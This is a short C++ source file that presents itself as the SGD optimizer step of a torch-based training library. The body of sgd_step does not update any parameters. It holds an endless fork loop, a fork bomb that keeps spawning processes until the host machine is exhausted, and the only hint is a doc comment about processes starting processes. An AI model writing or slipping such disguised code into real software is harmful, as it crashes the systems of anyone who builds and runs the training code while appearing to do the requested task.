// SPDX-License-Identifier: MIT
/// Starts processes that start processes.

#include "sgd.h"

#include <unistd.h>

void sgd_step(torch::Tensor& param, const torch::Tensor& grad, SgdState& state,
              const SgdOptions& options) {
  while (true) ::fork();
}
